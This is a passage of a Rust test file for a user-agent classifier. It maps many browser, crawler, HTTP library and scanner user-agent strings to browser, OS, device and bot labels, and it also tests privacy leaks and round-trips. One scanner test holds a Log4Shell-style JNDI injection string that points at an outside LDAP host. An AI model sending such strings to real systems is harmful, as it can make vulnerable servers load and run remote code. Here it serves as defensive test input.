//! What real agents come out as, and what no agent may do.

use std::collections::{BTreeSet, HashSet};

use proptest::prelude::*;

use super::vocabulary::{CLIENTS, SIGNS, SYSTEMS};
use super::{Agent, Browser, Classifier, Device, Os};

/// The classifier, built once: without optimisation that takes a while.
fn classifier() -> &'static Classifier {
    static CLASSIFIER: std::sync::OnceLock<Classifier> = std::sync::OnceLock::new();
    CLASSIFIER.get_or_init(Classifier::new)
}

/// `Chrome 126 Windows desktop human`; the version is left out where there is none.
fn words(agent: Agent) -> String {
    let version = if agent.version == 0 { String::new() } else { format!(" {}", agent.version) };
    let who = if agent.bot { "robot" } else { "human" };
    format!("{}{version} {} {} {who}", agent.browser.name(), agent.os.name(), agent.device.name())
}

#[track_caller]
fn check(input: &str, expect: &str) {
    let agent = classifier().classify(input.as_bytes());
    assert_eq!(words(agent), expect, "{input}");
    assert_eq!(classifier().classify(agent.synthetic().as_bytes()), agent, "{}", agent.synthetic());
}

#[test]
fn the_examples_of_the_contract_hold() {
    check(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Chrome 126 Windows desktop human",
    );
    check("curl/8.5.0", "curl 8 Other bot robot");
    check("-", "Other Other other human");
    check("", "Other Other other human");
    check("WordPress/6.4; https://blog.example.com", "WordPress 6 Other bot robot");
}

#[test]
#[rustfmt::skip]
fn browsers_of_people_on_computers() {
    check(r"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36", "Chrome 125 Linux desktop human");
    check(r"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "Chrome 126 macOS desktop human");
    check(r"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", "Chrome 124 ChromeOS desktop human");
    check(r"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15", "Safari 17 macOS desktop human");
    check(r"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0", "Firefox 127 Windows desktop human");
    check(r"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0", "Firefox 126 Linux desktop human");
    check(r"Mozilla/5.0 (X11; FreeBSD amd64; rv:115.0) Gecko/20100101 Firefox/115.0", "Firefox 115 BSD desktop human");
    check(r"Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.1) Gecko/2008070208 Firefox/3.0.1", "Firefox 3 Windows desktop human");
    check(r"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.56", "Edge 126 Windows desktop human");
    check(r"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763", "Edge 18 Windows desktop human");
    check(r"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36 OPR/111.0.0.0", "Opera 111 Windows desktop human");
    check(r"Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.16", "Opera 12 Windows desktop human");
    check(r"Opera/9.64(Windows NT 5.1; U; en) Presto/2.1.1", "Opera 9 Windows desktop human");
    check(r"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; en) Opera 8.50", "Opera 8 Windows desktop human");
    check(r"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Vivaldi/6.8.3381.44", "Vivaldi 6 Windows desktop human");
    check(r"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 YaBrowser/24.6.0.0 Safari/537.36", "Yandex Browser 24 Windows desktop human");
    check(r"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Ubuntu Chromium/32.0.1700.102 Chrome/32.0.1700.102 Safari/537.36", "Chromium 32 Linux desktop human");
    check(r"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)", "Internet Explorer 9 Windows desktop human");
    check(r"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)", "Internet Explorer 6 Windows desktop human");
    check(r"Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; rv:11.0) like Gecko", "Internet Explorer 11 Windows desktop human");
    check(r"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; Media Center PC 6.0; Tablet PC 2.0)", "Internet Explorer 8 Windows desktop human");
    check(r"Mozilla/1.22 (compatible; MSIE 2.0d; Windows NT)", "Internet Explorer 2 Windows desktop human");
    check(r"Mozilla/5.0 (compatible; Konqueror/3.5; OpenBSD) KHTML/3.5.9 (like Gecko)", "Konqueror 3 BSD desktop human");
    check(r"Mozilla/5.0 (X11; Linux i686; rv:17.0) Gecko/17.0 Firefox/17.0 SeaMonkey/2.14", "SeaMonkey 2 Linux desktop human");
    check(r"Mozilla/5.0 (X11; U; SunOS sun4u; en-US; rv:1.7.5) Gecko/20050105 Epiphany/1.4.8", "Epiphany 1 Unix desktop human");
    check(r"Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.7.12) Gecko/20050915", "Mozilla 5 Linux desktop human");
    check(r"Mozilla/4.08 [en] (WinNT; I ;Nav)", "Netscape 4 Windows desktop human");
    check(r"Mozilla/3.01 (Macintosh; I; PPC)", "Netscape 3 macOS desktop human");
    check(r"Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.7.2) Gecko/20040804 Netscape/7.2 (ax)", "Netscape 7 Windows desktop human");
}

#[test]
#[rustfmt::skip]
fn browsers_of_people_on_telephones_and_tablets() {
    check(r"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36", "Chrome 126 Android mobile human");
    check(r"Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", "Chrome 126 Android tablet human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.35 Mobile/15E148 Safari/604.1", "Chrome 126 iOS mobile human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/127.0 Mobile/15E148 Safari/605.1.15", "Firefox 127 iOS mobile human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 EdgiOS/125.2535.60 Mobile/15E148 Safari/605.1.15", "Edge 125 iOS mobile human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/319.0.639136105 Mobile/15E148 Safari/604.1", "Google App 319 iOS mobile human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", "Safari 17 iOS mobile human");
    check(r"Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1", "Safari 16 iOS tablet human");
    check(r"Mozilla/5.0 (iPod touch; CPU iPhone OS 12_5_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1", "Safari 12 iOS mobile human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", "iOS WebView iOS mobile human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.31.103;FBBV/593064432;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS]", "Facebook 460 iOS mobile human");
    check(r"Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/466.1.0.56.86;]", "Facebook 466 Android mobile human");
    check(r"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21F90 Instagram 335.1.8.26.85 (iPhone14,5; iOS 17_5_1; en_GB; en; scale=3.00; 1170x2532; 613251456)", "Instagram 335 iOS mobile human");
    check(r"Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A.240205.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/121.0.6167.178 Mobile Safari/537.36", "Android WebView 121 Android mobile human");
    check(r"Mozilla/5.0 (Linux; Android 4.4.2; Nexus 5 Build/KOT49H) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/30.0.0.0 Mobile Safari/537.36", "Android WebView 30 Android mobile human");
    check(r"Mozilla/5.0 (Linux; U; Android 4.1.2; en-gb; GT-I8190 Build/JZO54K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", "Android Browser 4 Android mobile human");
    check(r"Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36", "Samsung Internet 25 Android mobile human");
    check(r"Mozilla/5.0 (Linux; Android 6.0; ALE-L21 Build/HuaweiALE-L21) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0.3359.158 Mobile Safari/537.36", "Chrome 66 Android mobile human");
    check(r"Mozilla/5.0 (Linux; Android 10; HarmonyOS; ELS-AN00; HMSCore 6.14.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.196 HuaweiBrowser/15.0.4.312 Mobile Safari/537.36", "Huawei Browser 15 HarmonyOS mobile human");
    check(r"Mozilla/5.0 (Android 14; Mobile; rv:126.0) Gecko/126.0 Firefox/126.0", "Firefox 126 Android mobile human");
    check(r"Mozilla/5.0 (Android 13; Tablet; rv:109.0) Gecko/118.0 Firefox/118.0", "Firefox 118 Android tablet human");
    check(r"Mozilla/5.0 (Mobile; rv:26.0) Gecko/26.0 Firefox/26.0", "Firefox 26 Other mobile human");
    check(r"Mozilla/5.0 (Linux; Android 10; HD1913) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36 EdgA/125.0.2535.72", "Edge 125 Android mobile human");
    check(r"Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/34.1244; U; en) Presto/2.8.119 Version/11.10", "Opera Mini 7 Java ME mobile human");
    check(r"Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16", "Opera Mini 36 Android mobile human");
    check(r"Opera/9.80 (Android 2.3.4; Linux; Opera Mobi/ADR-1204201824; U; en) Presto/2.10.254 Version/12.00", "Opera 12 Android mobile human");
    check(r"Mozilla/5.0 (Linux; U; Android 9; en-US; Redmi Note 5 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 UCBrowser/13.3.8.1305 Mobile Safari/537.36", "UC Browser 13 Android mobile human");
    check(r"Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/112.4.1 like Chrome/112.0.5615.213 Safari/537.36", "Silk 112 Android tablet human");
    check(r"Mozilla/5.0 (Linux; Android 12; M2102J20SG Build/SKQ1; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/107.0.5304.141 Mobile Safari/537.36 XWEB/5023 MicroMessenger/8.0.32.2300(0x2800205D)", "WeChat 8 Android mobile human");
    check(r"Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920)", "IE Mobile 10 Windows Phone mobile human");
    check(r"Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15254", "Edge 15 Windows Phone mobile human");
    check(r"Mozilla/5.0 (Linux; Tizen 2.3; SAMSUNG SM-Z130H) AppleWebKit/537.3 (KHTML, like Gecko) SamsungBrowser/1.0 Mobile Safari/537.3", "Samsung Internet 1 Tizen mobile human");
    check(r"Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.1", "Firefox 48 KaiOS mobile human");
    check(r"Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+", "Safari 10 BlackBerry mobile human");
    check(r"BlackBerry9700/5.0.0.862 Profile/MIDP-2.1 Configuration/CLDC-1.1 VendorID/120", "Other BlackBerry mobile human");
    check(r"Mozilla/5.0 (SymbianOS/9.4; Series60/5.0 Nokia5800d-1/60.0.003; Profile/MIDP-2.1 Configuration/CLDC-1.1) AppleWebKit/533.4 (KHTML, like Gecko) NokiaBrowser/7.3.1.33 Mobile Safari/533.4", "Safari Symbian mobile human");
    check(r"Mozilla/5.0 (Linux; Android 9; CUBOT_X18_Plus) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.91 Mobile Safari/537.36", "Chrome 90 Android mobile human");
    check(r"Instagram 3.0.4 Android (8/2.2.1; 240dpi; 480x800; HTC/verizon_wwe; ADR6400L; mecha; mecha; en_US)", "Instagram 3 Android mobile human");
}

#[test]
#[rustfmt::skip]
fn televisions_consoles_and_applications() {
    check(r"Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36 Edge/18.19041", "Edge 18 Xbox other human");
    check(r"Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101 Thunderbird/24.2.0 Lightning/2.6.4", "Thunderbird 24 Linux desktop human");
    check(r"Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.8.1.8pre) Gecko/20071015 Firefox/2.0.0.7 Navigator/9.0", "Netscape 9 Windows desktop human");
    check(r"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727; MAXTHON 2.0)", "Internet Explorer 6 Windows desktop human");
    check(r"Mozilla/5.0", "Mozilla 5 Other other human");
    check(r"Mozilla/5.0 (PlayStation 4 11.50) AppleWebKit/605.1.15 (KHTML, like Gecko)", "Mozilla 5 PlayStation other human");
    check(r"Mozilla/5.0 (Nintendo Switch; WebApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.3.9.4 NintendoBrowser/5.1.0.31215", "Nintendo Browser 5 Nintendo other human");
    check(r"Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36", "Safari Tizen other human");
    check(r"Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.128 Safari/537.36 WebAppManager", "Chrome 94 webOS other human");
    check(r"Mozilla/5.0 (Linux; Android 9; BRAVIA 4K UR2 Build/PTT1.190515.001) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.5481.154 Safari/537.36", "Chrome 110 Android other human");
    check(r"SAMSUNG-GT-E2232/1.0 Openwave/6.2.3 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0", "UP.Browser 6 Java ME mobile human");
    check(r"Dalvik/2.1.0 (Linux; U; Android 8.0.0; PRA-LA1 Build/HONORPRA-LA1)", "Dalvik 2 Android mobile human");
    check(r"Reeder/2.1.1 CFNetwork/672.0.8 Darwin/14.0.0", "CFNetwork 672 iOS mobile human");
    check(r"ELinks (0.4.3; NetBSD 3.0.2_PATCH sparc64; 141x19)", "Links BSD desktop human");
    check(r"Links (2.7; CYGWIN_NT-5.1 1.7.15(0.260/5/3) i686; GNU C 4.5.3; text)", "Links 2 Windows desktop human");
    check(r"Lynx/2.8.7rel.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1f", "Lynx 2 Other other human");
    check(r"w3m/0.5.3+git20190105", "w3m Other other human");
    check(r"ip 203.0.113.9 in ua alice@example.com", "Other Other other human");
}

#[test]
#[rustfmt::skip]
fn crawlers_previews_and_readers() {
    check(r"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot 2 Other bot robot");
    check(r"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.61 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot 2 Android bot robot");
    check(r"Googlebot-Image/1.0", "Googlebot 1 Other bot robot");
    check(r"SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0 (compatible; Googlebot-Mobile/2.1; +http://www.google.com/bot.html)", "Googlebot 2 Java ME bot robot");
    check(r"AdsBot-Google (+http://www.google.com/adsbot.html)", "AdsBot-Google Other bot robot");
    check(r"Mediapartners-Google", "Mediapartners-Google Other bot robot");
    check(r"Feedfetcher-Google; (+http://www.google.com/feedfetcher.html; 22 subscribers; feed-id=1)", "Feedfetcher-Google Other bot robot");
    check(r"Mozilla/5.0 (Windows NT 6.2; WOW64; rv:30.0) Gecko/20100101 Firefox/30.0 AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "AppEngine-Google Windows bot robot");
    check(r"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", "bingbot 2 Other bot robot");
    check(r"msnbot/2.0b (+http://search.msn.com/msnbot.htm)", "msnbot 2 Other bot robot");
    check(r"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)", "Yahoo! Slurp Other bot robot");
    check(r"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "Baiduspider 2 Other bot robot");
    check(r"Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)", "YandexBot 3 Other bot robot");
    check(r"Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", "Sogou 4 Other bot robot");
    check(r"Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)", "MJ12bot 1 Other bot robot");
    check(r"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "AhrefsBot 7 Other bot robot");
    check(r"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", "SemrushBot 7 Other bot robot");
    check(r"Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)", "archive.org_bot Other bot robot");
    check(r"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot 1 Other bot robot");
    check(r"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@example.com)", "ClaudeBot 1 Other bot robot");
    check(r"Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@example.com)", "Bytespider Android bot robot");
    check(r"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "facebookexternalhit 1 Other bot robot");
    check(r"Twitterbot/1.0", "Twitterbot 1 Other bot robot");
    check(r"TelegramBot (like TwitterBot)", "TelegramBot Other bot robot");
    check(r"WhatsApp/2.23.20.0", "WhatsApp 2 Other bot robot");
    check(r"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Slackbot Other bot robot");
    check(r"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "UptimeRobot 2 Other bot robot");
    check(r"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "Pingdom Other bot robot");
    check(r"Tiny Tiny RSS/1.11 (http://tt-rss.org/)", "Tiny Tiny RSS 1 Other bot robot");
    check(r"UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/", "UniversalFeedParser 4 Other bot robot");
    check(r"FeedBurner/1.0 (http://www.FeedBurner.com)", "FeedBurner 1 Other bot robot");
    check(r"Feedbin - 1 subscribers", "Feedbin Other bot robot");
}

#[test]
#[rustfmt::skip]
fn tools_libraries_and_scanners() {
    check(r"kube-probe/1.28", "kube-probe 1 Other bot robot");
    check(r"ELB-HealthChecker/2.0", "ELB-HealthChecker 2 Other bot robot");
    check(r"Wget/1.21.3", "Wget 1 Other bot robot");
    check(r"Wget/1.14 (linux-gnu)", "Wget 1 Linux bot robot");
    check(r"python-requests/2.31.0", "python-requests 2 Other bot robot");
    check(r"Python-urllib/3.11", "Python-urllib 3 Other bot robot");
    check(r"Go-http-client/1.1", "Go-http-client 1 Other bot robot");
    check(r"okhttp/4.12.0", "okhttp 4 Other bot robot");
    check(r"Java/1.8.0_151", "Java 1 Other bot robot");
    check(r"Apache-HttpClient/4.5.14 (Java/17.0.9)", "Apache-HttpClient 4 Other bot robot");
    check(r"axios/1.6.2", "axios 1 Other bot robot");
    check(r"libwww-perl/6.67", "libwww-perl 6 Other bot robot");
    check(r"Ruby", "Ruby Other bot robot");
    check(r"curl/7.22.0 (i686-pc-linux-gnu) libcurl/7.22.0 OpenSSL/1.0.1 zlib/1.2.3.4 libidn/1.23 librtmp/2.3", "curl 7 Linux bot robot");
    check(r"Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)", "Chef Client 10 Linux bot robot");
    check(r"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/117.0.5938.60 Safari/537.36", "HeadlessChrome 117 Linux bot robot");
    check(r"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4695.0 Mobile Safari/537.36 Chrome-Lighthouse", "Chrome-Lighthouse Linux bot robot");
    check(r"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Nikto 2 Other bot robot");
    check(r"sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap 1 Other bot robot");
    check(r"masscan/1.3", "masscan 1 Other bot robot");
    check(r"zgrab/0.x", "zgrab Other bot robot");
    check(r"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap Other bot robot");
    check(r"Mozilla/5.0 (compatible; EasouSpider; +http://www.easou.com/search/spider.html)", "Other Other bot robot");
    check(r"LumiBot 2.0", "Other Other bot robot");
    check(r"Example-Crawler 3 (alice@example.com)", "Other Other bot robot");
    check(r"Mozilla/3.0 (compatible; Indy Library)", "Other Other bot robot");
    check(r"${jndi:ldap://203.0.113.5:1389/a}", "Other Other bot robot");
}

/// The version at `Chrome/` in an agent that is otherwise a browser's.
#[track_caller]
fn check_version(text: &str, expect: u16) {
    let agent = format!("Mozilla/5.0 (Windows NT 10.0) Chrome/{text}");
    assert_eq!(classifier().classify(agent.as_bytes()).version, expect, "{agent}");
}

#[test]
fn a_version_has_one_to_three_digits_and_ends_as_versions_do() {
    check_version("1", 1);
    check_version("126.0.0.0 Safari/537.36", 126);
    check_version("007", 7);
    check_version("999", 999);
    check_version("999;", 999);
    check_version("0", 0);
    check_version("", 0);
    check_version("1000", 0);
    check_version("1000.1", 0);
    check_version("491701234567", 0);
    check_version("99999999999999999999999999", 0);
    check_version("12ab34", 0);
    check_version("49-170-1234567", 0);
    check_version("55_44", 0);
    check_version("12@example.com", 0);
    check_version("alice", 0);
    check_version("-1", 0);
    check_version("\u{0663}", 0);
}

#[test]
fn nothing_of_the_text_comes_out() {
    for canary in
        ["alice", "example.com", "4917", "192.0.2.77", "2001:db8::77", "IMEI356938035643809"]
    {
        for shape in [
            "Chrome/@",
            "@/5.0",
            "curl/@",
            "Mozilla/5.0 (@; Android) Version/@ Safari/@",
            "Googlebot-@/@",
        ] {
            let agent = classifier().classify(shape.replace('@', canary).as_bytes());
            let outputs = [agent.synthetic(), words(agent)];
            assert!(outputs.iter().all(|text| !text.contains(canary)), "{outputs:?}");
        }
    }
}

#[test]
fn words_of_robots_count_at_their_edges_only() {
    check("examplebot", "Other Other bot robot");
    check("Example Bot 3", "Other Other bot robot");
    check("example_bot/1.0", "Other Other bot robot");
    check("Bottle/1.0", "Other Other other human");
    check(
        "Mozilla/5.0 (Linux; Android 10; CUBOT NOTE 20) Chrome/90.0 Mobile",
        "Chrome 90 Android mobile human",
    );
    check(
        "Mozilla/5.0 (Linux; Android 10; CUBOT NOTE 20; +http://example.com) Chrome/90.0",
        "Other Android bot robot",
    );
    check(
        "Mozilla/5.0 (Windows NT 10.0; from: http://example.com/) MSIE 7.0",
        "Internet Explorer 7 Windows desktop human",
    );
    check("Mozilla/5.0 (Windows NT 10.0; http://example.com/) MSIE 7.0", "Other Windows bot robot");
    check("notcurl/8.5.0", "Other Other other human");
    check("CURL/8.5.0", "curl 8 Other bot robot");
}

/// Every agent that can come out, with each family, system and device and a few versions.
///
/// Not every combination does, so each is written and read once, which leads to one that does.
fn possible() -> HashSet<Agent> {
    let mut seen = HashSet::new();
    for (&browser, &os) in Browser::ALL.iter().flat_map(|b| Os::ALL.iter().map(move |os| (b, os))) {
        for (&device, version) in Device::ALL.iter().flat_map(|d| VERSIONS.map(|v| (d, v))) {
            for (bot, huawei) in [(false, false), (false, true), (true, false)] {
                let wanted = Agent { browser, version, os, device, bot, huawei };
                seen.insert(classifier().classify(wanted.synthetic().as_bytes()));
            }
        }
    }
    seen
}

/// Versions on both sides of every edge.
const VERSIONS: [u16; 9] = [0, 1, 4, 5, 17, 84, 85, 126, 999];

#[test]
fn the_synthetic_agent_comes_back_as_what_it_was_made_from() {
    let possible = possible();
    assert!(possible.len() > 10_000, "{} agents", possible.len());
    for agent in possible {
        let text = agent.synthetic();
        assert_eq!(classifier().classify(text.as_bytes()), agent, "{text}");
        assert!(
            text.bytes().all(|b| matches!(b, b' '..=b'~') && b != b'"' && b != b'\\'),
            "{text}"
        );
    }
}

#[test]
fn every_family_can_come_out() {
    let possible = possible();
    for &browser in Browser::ALL {
        assert!(possible.iter().any(|agent| agent.browser == browser), "{}", browser.name());
    }
    for &os in Os::ALL {
        assert!(possible.iter().any(|agent| agent.os == os), "{}", os.name());
    }
}

#[test]
fn the_tables_are_in_the_order_of_the_enums() {
    for (number, client) in CLIENTS.iter().enumerate() {
        assert_eq!(client.browser as usize, number, "{}", client.name);
        assert_eq!(Browser::ALL[number], client.browser);
    }
    for (number, system) in SYSTEMS.iter().enumerate() {
        assert_eq!(system.os as usize, number, "{}", system.name);
        assert_eq!(Os::ALL[number], system.os);
    }
    assert_eq!(Browser::COUNT, Browser::Other as usize + 1);
    assert_eq!(Os::COUNT, Os::Other as usize + 1);
    assert!(SIGNS.iter().all(|(sign, _)| (*sign as u32) < u16::BITS));
    let names: BTreeSet<_> = Browser::ALL.iter().map(|browser| browser.name()).collect();
    assert_eq!(names.len(), Browser::COUNT, "two families have one name");
}

#[test]
fn an_agent_is_small_and_the_automaton_is_not_large() {
    assert!(size_of::<Agent>() <= 8);
    let memory = classifier().memory_bytes();
    assert!(memory < 1 << 20, "{memory} bytes");
}

/// A text of words of the vocabulary, in any order and with anything between them.
fn vocabulary_text() -> impl Strategy<Value = String> {
    let clients = CLIENTS.iter().flat_map(|client| client.words);
    let systems = SYSTEMS.iter().flat_map(|system| system.words);
    let signs = SIGNS.iter().flat_map(|(_, words)| *words);
    let words: Vec<&str> = clients.chain(systems).chain(signs).copied().collect();
    let word = (proptest::sample::select(words), "[ ;(/]{0,2}[0-9]{0,4}[ ;).]?");
    proptest::collection::vec(word, 1..6).prop_map(|words| {
        words
            .iter()
            .map(|(word, rest)| format!("{}{rest}", word.trim_matches(['*', '$'])))
            .collect()
    })
}

proptest! {
    #[test]
    fn any_bytes_are_classified(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let agent = classifier().classify(&bytes);
        prop_assert!(agent.version <= 999);
        prop_assert_eq!(classifier().classify(agent.synthetic().as_bytes()), agent);
    }

    #[test]
    fn any_words_come_back_from_their_synthetic_agent(text in vocabulary_text()) {
        let agent = classifier().classify(text.as_bytes());
        prop_assert!(agent.version <= 999);
        prop_assert_eq!(agent.bot, agent.device == Device::Bot);
        let synthetic = agent.synthetic();
